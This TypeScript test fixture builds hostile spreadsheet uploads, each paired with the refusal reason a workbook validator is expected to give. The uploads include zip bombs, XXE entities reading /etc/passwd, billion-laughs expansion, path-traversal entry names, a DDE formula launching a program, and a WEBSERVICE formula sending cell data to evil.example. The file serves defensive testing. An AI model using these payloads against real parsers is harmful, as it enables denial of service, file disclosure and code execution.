import { strToU8, zipSync, type Zippable } from 'fflate'
import type { RefusalReason } from '#app/features/cost-price/workbook/raw-workbook.ts'

const SHEET_HEAD = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
const SHEET_TAIL = '</sheetData></worksheet>'

/** A minimal workbook of one sheet, with parts added or replaced. */
export function smallWorkbook(sheet: string, more: Zippable = {}): Uint8Array {
  return zipSync({
    '[Content_Types].xml': strToU8('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
    '_rels/.rels': strToU8(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    ),
    'xl/workbook.xml': strToU8(
      '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Blad1" sheetId="1" r:id="r1"/></sheets></workbook>',
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    'xl/worksheets/sheet1.xml': strToU8(sheet),
    ...more,
  })
}

/** Lies about the unpacked size of the last entry: directory and header say `size`. */
function lyingBomb(size: number): Uint8Array {
  const bytes = smallWorkbook(SHEET_HEAD + ' '.repeat(8_000_000) + SHEET_TAIL)
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength)
  for (let at = 0; at < bytes.length - 4; at++) {
    const signature = view.getUint32(at, true)
    if (signature === 0x02014b50 && view.getUint32(at + 24, true) > 1_000_000) view.setUint32(at + 24, size, true)
  }
  return bytes
}

const rows = (count: number) =>
  Array.from(
    { length: count },
    (_, index) => `<row r="${String(index + 1)}"><c r="A${String(index + 1)}"><v>1</v></c></row>`,
  ).join('')
const filler = (prefix: string, bytes: number) => strToU8(prefix + 'x'.repeat(bytes))

/** Files that are sent to harm, each with the reason it is refused for. Made when asked: some are large. */
export const HOSTILE_FILES: readonly (readonly [string, RefusalReason, () => Uint8Array])[] = [
  ['an empty file', 'empty', () => new Uint8Array()],
  ['ten million zeros', 'not-a-workbook', () => new Uint8Array(10_000_000)],
  ['200 MB', 'too-large', () => new Uint8Array(200_000_000)],
  ['a renamed CSV', 'not-a-workbook', () => strToU8('product;prijs\nA;12,50\n')],
  ['a renamed PDF', 'not-a-workbook', () => filler('%PDF-1.7\n', 5000)],
  ['a renamed HTML page', 'not-a-workbook', () => strToU8('<html><table><tr><td>1</td></tr></table></html>')],
  ['a ZIP with other things', 'not-a-workbook', () => zipSync({ 'foto.txt': strToU8('x') })],
  ['an old .xls', 'old-excel', () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, ...new Uint8Array(2000)])],
  [
    'an encrypted workbook',
    'encrypted',
    () =>
      new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, ...new Uint8Array(508), ...Buffer.from('EncryptedPackage', 'utf16le')]),
  ],
  ['a zip bomb', 'expands-too-far', () => smallWorkbook(SHEET_HEAD + ' '.repeat(40_000_000) + SHEET_TAIL)],
  ['a zip bomb that lies about its size', 'expands-too-far', () => lyingBomb(1000)],
  [
    '5.000 entries',
    'expands-too-far',
    () =>
      smallWorkbook(
        SHEET_HEAD + SHEET_TAIL,
        Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`a/${String(index)}`, new Uint8Array()])),
      ),
  ],
  [
    'a DOCTYPE with entities',
    'unsafe-xml',
    () =>
      smallWorkbook(`<!DOCTYPE x [<!ENTITY a "b"><!ENTITY e SYSTEM "file:///etc/passwd">]>${SHEET_HEAD}${SHEET_TAIL}`),
  ],
  ['macros', 'macros', () => smallWorkbook(SHEET_HEAD + SHEET_TAIL, { 'xl/vbaProject.bin': strToU8('x') })],
  [
    'links to another workbook',
    'external-links',
    () => smallWorkbook(SHEET_HEAD + SHEET_TAIL, { 'xl/externalLinks/externalLink1.xml': strToU8('<externalLink/>') }),
  ],
  [
    'a part fetched from elsewhere',
    'external-links',
    () =>
      smallWorkbook(SHEET_HEAD + SHEET_TAIL, {
        'xl/worksheets/_rels/sheet1.xml.rels': strToU8(
          '<Relationships><Relationship Id="r1" Type="http://x/oleObject" Target="http://evil.example/x" TargetMode="External"/></Relationships>',
        ),
      }),
  ],
  [
    'a cell at the far end',
    'too-many-cells',
    () =>
      smallWorkbook(
        `${SHEET_HEAD}<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>${SHEET_TAIL}`,
      ),
  ],
  ['70.000 cells', 'too-many-cells', () => smallWorkbook(SHEET_HEAD + rows(70_000) + SHEET_TAIL)],
  ['a million rows', 'expands-too-far', () => smallWorkbook(SHEET_HEAD + '<row/>'.repeat(1_000_000) + SHEET_TAIL)],
  [
    'merges without end',
    'too-many-cells',
    () =>
      smallWorkbook(
        `${SHEET_HEAD}</sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(5000)}</mergeCells></worksheet>`,
      ),
  ],
  ['a file cut off', 'damaged', () => smallWorkbook(SHEET_HEAD + rows(100) + SHEET_TAIL).slice(0, 400)],
  [
    'data before the ZIP',
    'not-a-workbook',
    () => new Uint8Array([...strToU8('%PDF-1.4\n'), ...smallWorkbook(SHEET_HEAD + SHEET_TAIL)]),
  ],
  [
    'two equal parts',
    'damaged',
    () => smallWorkbook(SHEET_HEAD + SHEET_TAIL, { 'XL/workbook.xml': strToU8('<workbook/>') }),
  ],
  [
    'a million laughs',
    'unsafe-xml',
    () =>
      smallWorkbook(
        `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, index) => `<!ENTITY ${LETTERS[index + 1] ?? 'z'} "${`&${LETTERS[index] ?? 'a'};`.repeat(10)}">`).join('')}]>${SHEET_HEAD}<row r="1"><c r="A1" t="inlineStr"><is><t>&u;</t></is></c></row>${SHEET_TAIL}`,
      ),
  ],
  [
    'an entity in UTF-16',
    'unsafe-xml',
    () =>
      smallWorkbook(SHEET_HEAD + SHEET_TAIL, {
        'xl/sharedStrings.xml': new Uint8Array([0xff, 0xfe, ...Buffer.from('<!DOCTYPE x><sst/>', 'utf16le')]),
      }),
  ],
  [
    'an archive in the archive',
    'unsafe-xml',
    () => smallWorkbook(SHEET_HEAD + SHEET_TAIL, { 'xl/media/foto.png': nested(6) }),
  ],
  [
    'an embedded program',
    'unsafe-xml',
    () => smallWorkbook(SHEET_HEAD + SHEET_TAIL, { 'xl/embeddings/oleObject1.bin': strToU8('x') }),
  ],
  [
    'a name that leads out of the archive',
    'unsafe-xml',
    () => smallWorkbook(SHEET_HEAD + SHEET_TAIL, { '../../etc/passwd': strToU8('x') }),
  ],
  [
    'a name from the root, as Windows writes it',
    'unsafe-xml',
    () => smallWorkbook(SHEET_HEAD + SHEET_TAIL, { 'C:\\Windows\\x.dll': strToU8('x') }),
  ],
  [
    'a formula that starts a program',
    'external-links',
    () =>
      smallWorkbook(
        `${SHEET_HEAD}<row r="1"><c r="A1"><f>cmd|&apos;/c calc&apos;!A0</f><v>0</v></c></row>${SHEET_TAIL}`,
      ),
  ],
  [
    'a formula that fetches',
    'external-links',
    () =>
      smallWorkbook(
        `${SHEET_HEAD}<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example/"&amp;B1)</f></c></row>${SHEET_TAIL}`,
      ),
  ],
  [
    'an ODS that links to a program',
    'external-links',
    () => openDocument('<table:dde-links><table:dde-link/></table:dde-links>'),
  ],
  [
    'an ODS with entities',
    'unsafe-xml',
    () => openDocument('', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
  ],
  [
    'an ODS of a million rows',
    'too-many-cells',
    () =>
      openDocument(
        '<table:table><table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value="1"/></table:table-row></table:table>',
      ),
  ],
  ['an ODS with macros', 'macros', () => openDocument('', '', { 'Basic/Standard/Module1.xml': strToU8('<x/>') })],
  ['the same entry twice', 'damaged', () => twice(smallWorkbook(SHEET_HEAD + SHEET_TAIL))],
]

const LETTERS = 'abcdefghijklmnopqrstuvwxyz'

/** Archives in archives, `depth` deep. */
function nested(depth: number): Uint8Array {
  return depth === 0 ? new Uint8Array(100_000) : zipSync({ 'binnen.zip': nested(depth - 1) })
}

function openDocument(content: string, before = '', more: Zippable = {}): Uint8Array {
  return zipSync({
    mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
    'content.xml': strToU8(
      `<?xml version="1.0"?>${before}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet>${content}</office:spreadsheet></office:body></office:document-content>`,
    ),
    ...more,
  })
}

/** Repeats the last entry of the directory, so that two readers can each see another part. */
function twice(bytes: Uint8Array): Uint8Array {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength)
  const end = bytes.length - 22
  const [count, start] = [view.getUint16(end + 10, true), view.getUint32(end + 16, true)]
  let last = start
  for (let at = start, index = 0; index < count; index += 1) {
    last = at
    at += 46 + view.getUint16(at + 28, true) + view.getUint16(at + 30, true) + view.getUint16(at + 32, true)
  }
  const again = bytes.slice(last, end)
  const whole = new Uint8Array([...bytes.slice(0, end), ...again, ...bytes.slice(end)])
  const tail = new DataView(whole.buffer)
  tail.setUint16(end + again.length + 8, count + 1, true)
  tail.setUint16(end + again.length + 10, count + 1, true)
  tail.setUint32(end + again.length + 12, end - start + again.length, true)
  return whole
}
